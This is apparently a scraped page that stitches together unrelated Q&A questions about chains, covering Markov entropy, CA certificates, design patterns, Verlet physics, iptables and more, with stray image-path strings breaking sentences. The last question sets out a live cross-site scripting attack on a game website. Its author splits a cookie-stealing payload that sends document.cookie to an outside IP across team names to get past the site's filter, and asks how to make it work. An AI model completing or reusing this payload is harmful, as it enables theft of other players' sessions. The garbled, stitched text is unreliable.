information theory, find entropy given Markov chain

There is an information source on the information source alphabet $ A = \{a, b, c\}$ represented by the state transition diagram below:

Markov chain

a) The random variable representing the $ i$ -th output from this information source is represented by $ X_i$ . It is known that the user is now in state $ S_1$ . In this state, let $ H (X_i|s_1)$ denote the entropy when observing the next symbol $ X_i$ , find the value of $ H (X_i|s_1)$ , entropy of this information source, Calculate $ H (X_i|X_{i-1}) $ and $ H (X_i)$ respectively. Assume $ i$ is quite large

How can I find $ H(X_i|s_1)?$ I know that $ $ H(X_i|s_1) = -\sum_{i,s_1} p\left(x_i, s_1\right)\cdot\log_b\!\left(p\left(x_i|s_1\right)\right) = -\sum_{i,j} p\left(x_i, s_1\right)\cdot\log_b\!\left(\frac{p\left(x_i, s_1\right)}{p\left(s_1\right)}\right)$ $ but I don’t know $ p(s_1)$ .

$ $ A=\begin{pmatrix}0.25 & 0.75 & 0\0.5 & 0 & 0.5 \0 & 0.7 & 0.3 \end{pmatrix}.$ $

From matrix I can know that $ p(s_1|s_1)=0.25$ , etc.

But what is the probability of $ s_1$ ? And how can I calculate $ H (X_i|X_{i-1})$ ?

Can’t Identify the CA certificate chain in the server’s certification manager to auto enroll it

I’m on Windows Server 2019 with AD/DC,DHCP,DNS,Remote Access and CA roles installed on it. I created a VPN certification (for SSTP and IKEv2) on my server, issued it and installed it in the personal certificate store. now I want my clients (basically Windows 10 pro machines) to automaticallyreceive the CA Certificate Chain so that they can trust certificated issued on my server like the VPN cert. I’m gonna do this using group policy but the problem is I can’t tell which one of the installed certificates in the certificate store of the local machine (Server 2019)is actually the CA Certificate Chain.

I have 3 identical CA certificates, 2 of them are in theTrusted root certificate authority store and one of the is in the personal store.

here is the details of those 3 certs, the screenshots i took from the details are the same in all 3 certificates.

View post on

I’d appreciate if someone can help me find the right one.

Chain of responsibility or simple dependency injection for Querying API

I am working on refactoring a project code that is wired up in a tangled way. It was started with decent dependency injection and over time with all custom requirements it looks it got tangled up. This is the outline of the service functionality1. Get the request from the user 2. Infer some business logic based on the user and request information - Determine user access privileges, get data from external services to help with building the query, etc 3. build a complex query to send to backend  4. execute the query by sending it to backend and get the results  5. Any postprocessing that needs to be done on the results (do some last mile filtering of results, decorate it with more data, etc) 6. Build a response using the results we got from line 5 and return it back

I have two slight variants in mind now and i would like to getsome suggestions on which option is better.

Option 1

Break down some objects by following single responsibility principle and then wire up the objects in a simple way  RequestObjectBuilder UserAccessInformation     extractAccessInformation BusinessLogic1Extractor     extract business logic by calling external services BusinessLogic2Extractor     extract business logic by calling external services  QueryBuilder - use all dependencies andinput and build the query (Query Building would be broken down into pieces and dependencies would be injected where needed)     UserAccessInformation     BusinessLogic1Extractor     BusinessLogic2Extractor      String buildQuery(RequestInput request)           ResponseBuilder     PostProcessingBusinessLogic1     buildResponse()

Option 2

Break down some objects by following single responsibility principle and chain them together using chain of responsibility pattern       PreprocessorChain   - order of preprocessor matters a lot when one is dependent on some fields populated in context by other         void run(List<Preprocessor> processes)      Preprocessor  - each preprocessor will read input and context and update the context back         void preprocess(RequestContext context, RequestInput request)         QueryBuilder - read the context andinput and build the query         StringbuildQuery((RequestContext context, RequestInput request)                         PostProcessorChain         void postprocess(ResponseContext context, ResponseOutput response)

I feel that option 2 would give me flexibility but I dont like the idea of passing around a context object and use that as both input and output. THe problem with option 1 is, it doenst abstract out preprocessors and postprocessors very well. Should i go for a hybrid approach ? Any suggestions from your experience?

Is there a way to become proficient in using a Spiked Chain as a non-improvised weapon?

The spiked chain was an exotic reach weapon in D&D 3.5, but is absent from D&D 5e. The use of such a weapon (probably) falls under using improvised weapons.

Is there such a way for a character to become proficient with a exotic/improvised weaponwithout pursuing proficiency with all improvised weapons?

Build Vorticity Matrix for Markov chain

I have a markov chain with $ Q(u,v)$ as transition probability matrix and $ \pi(u)$ as stationary distribution. The dimension of matrix $ Q$ is $ nxn$ and vector $ \pi$ is $ 1xn$ .

I need to build a vorticity matrix $ \Gamma (u,v)$ of dimension $ nxn$ which has below properties

  1. $ \Gamma$ is skew symmetric matrix i.e, $ $ \Gamma (u,v) = -\Gamma (v,u)$ $

  2. Row sum of $ \Gamma$ is zero for every row i.e, $ $ \sum_v \Gamma (u,v) = 0$ $

  3. Third property is, $ $ \Gamma(u,v) \geq -\pi (v)Q(v,u) $ $

How to build vorticity matrix $ \Gamma(u,v)$ which satisfies above three properties?

NOTE: Transition probability matrix $ P$ , and stationary distribution $ \pi$ hasbelow properties

Row sum of $ P$ is one for each row, $$ \sum_v P(u,v)=1$ $ $ \pi$ is probability distribution hence, $ $ \sum_v \pi(v) = 1$ $ Stationary distribution condition for $ \pi$ , $ $ \sum_u \pi(u) P(u,v) = \pi(v)$ $

Verlet chain with two fixed points is not converging properly

I am trying to create a simple chain between two fixed endpoints. The problem is that I can’t seem to get the chain to reach a stable state. Further, the chain is always biased toward one of the endpoints.

Here are my constants and variables:

const NUMBER_OF_LINKS = 100 const CHAIN_LENGTH = 400 const DIST_BETWEEN_LINKS = CHAIN_LENGTH / NUMBER_OF_LINKS const ITERATIONS = 20 # number of times we iterate through constraints each frame const GRAVITY = Vector2(0, 300)  var anchor1 var anchor2  var prev_link_positions = [] var links = []

Here’s what I do on initialization:

create_links(NUMBER_OF_LINKS)  var first_link = links[0] var last_link = links[NUMBER_OF_LINKS - 1]  first_link.global_position = anchor1.global_position last_link.global_position = anchor2.global_position

And here are the adjustments I do each frame:

links[0].global_position = anchor1.global_position links[NUMBER_OF_LINKS - 1].global_position = anchor2.global_position  for i in range(NUMBER_OF_LINKS):     var acceleration = GRAVITY     acceleration *= delta * delta     var prev_position = links[i].global_position     if not i in [0, NUMBER_OF_LINKS - 1]:         links[i].global_position = 2*links[i].global_position - prev_link_positions[i] + acceleration     prev_link_positions[i] = prev_position  for iteration in range (ITERATIONS):     for i in range(NUMBER_OF_LINKS):         var link = links[i]               var prev_link_position         if i == 0 or i == NUMBER_OF_LINKS - 1:             prev_link_position = links[i].global_position         else:prev_link_position = links[i-1].global_position          var next_link_position         if i == 0 or i == NUMBER_OF_LINKS - 1:             next_link_position = links[i].global_position         else:             next_link_position = links[i+1].global_position          # get vector to previous link and adjust position         var vec_to_prev_link = prev_link_position - link.global_position         link.global_position += vec_to_prev_link.normalized() * max(vec_to_prev_link.length() - DIST_BETWEEN_LINKS, 0) / 2.0          # get vector to next link and adjust position         var vec_to_next_link = next_link_position - link.global_position         link.global_position += vec_to_next_link.normalized() * max(vec_to_next_link.length() - DIST_BETWEEN_LINKS, 0) / 2.0

When I run this, I almost get what I want, except the chain contorts and never reaches a stable state. Also, it is biased in the first direction I look at when solving the constraints.

It looks something like this:

enter image description here

What am I doing wrong? How can I get a chain that stabilizes with links more uniformly distributed?

How to chain unix commands in jupyter notebooks while on windows 10?

My Os is windows 10 and I am using ajupyter notebook from anaconda prompt.

When I type !pwd it works, When I type !ls -l it works, But when I want to chain the commands and output them to an output file e.g. !(pwd; ls-l) > out.txt it says: “pwd: unknown option — l Try ‘pwd –help’ for more information.”

Does anyone know how to chain these commands and output them to a file?

Thank you in advance

How can iptables both have (ACCEPT, all, anywhere, anywhere) and (DROP, all, anywhere, anywhere) in its INPUT chain?

How can iptables both have (ACCEPT, all, anywhere, anywhere) and (DROP, all, anywhere, anywhere) in its INPUT chain?

How is it meaningful for iptables to both have rules for ACCEPT and DROP all traffic in its INPUT chain with a default policy of DROP?

In this case, will traffic actually be accepted or dropped? I see that special rules exists for ssh and http, so they would naturally take precendece, because they are more specific?

# iptables -L Chain INPUT (policy DROP) target     prot opt source               destination          ACCEPT     all  --  anywhere             anywhere             ACCEPT     all  --  anywhere             anywhere             ctstate RELATED,ESTABLISHED DROP       all  --  anywhere             anywhere             ctstate INVALID ACCEPT     tcp  --  anywhere             anywhere             tcp dpt:ssh ctstate NEW,ESTABLISHED ACCEPT     tcp  --  anywhere             anywhere             tcp dpt:http ctstate NEW,ESTABLISHED ACCEPT     icmp --  anywhere             anywhere              Chain FORWARD (policy DROP) target     prot opt source               destination           Chain OUTPUT (policy DROP) target     prot opt source               destination          ACCEPT     all  --  anywhere             anywhere             ACCEPT     all  --  anywhere             anywhere             ctstate ESTABLISHED ACCEPT     tcp  --  anywhere             anywhere             tcp spt:ssh ctstate ESTABLISHED ACCEPT     tcp  --  anywhereanywhere             tcp spt:http ctstate ESTABLISHED

Is frequency vector a good choice for minimizing chain code derivative vector?

I’m trying to implement a feedforward neural network that recognize a type of cable based on chain codes derivative vector. The size of my chain codes derivative vectors is variable, and I would like them to converge to the same length. As a solution I’m thinking about a frequency vector that will contain each direction(8 in total).So from a variable length, all the vectors will converge to vectors of length 8. Is this approach ok?

How to chain XSS payloads?

I found a parameter on a website that is vulnerable to XSS. The website is a game and the parameter in question is the name of a player team. However, the parameter is limited to only 20 characters. There is another page on the website where these player teams can be showcased. I can make multiple player teams and have their names display on this page.

I was able to createan alert box by using the following team names on three separate teams:

<script>alert(/* */'1'/* </script>

The comments skip any HTML between the team names, therefore “chaining” them and showing the alert box. However, nothing reallymalicious can be done with this.

I wanted to implement cookie-stealing, so first Icreated this payload (the IP address has been changed except for the “169” value, and the character count of the IP address is identical to the real IP address):


Of course, this would not fit in 20 characters, so I split it up like so (I am able to create up to 8 player teams to show on the page):

<script>docu/* */ment.location=/* */'http://12.16/* */9.123.929:80/1.p/* */hp?c=/* */'+docu/* */ment.cookie; */</script>

(the words “document” and “69” must be separated since the site’s filter thinks they are inappropriate)

However, I encountered some problems while doing this. First off, the slashes in http:// are interpreted as comments and start commenting undesired things. Second, whenever there is a ' symbol, any comment after it is ignored. Forinstance: Comment not working

How can I circumvent thisand make the XSS chain together?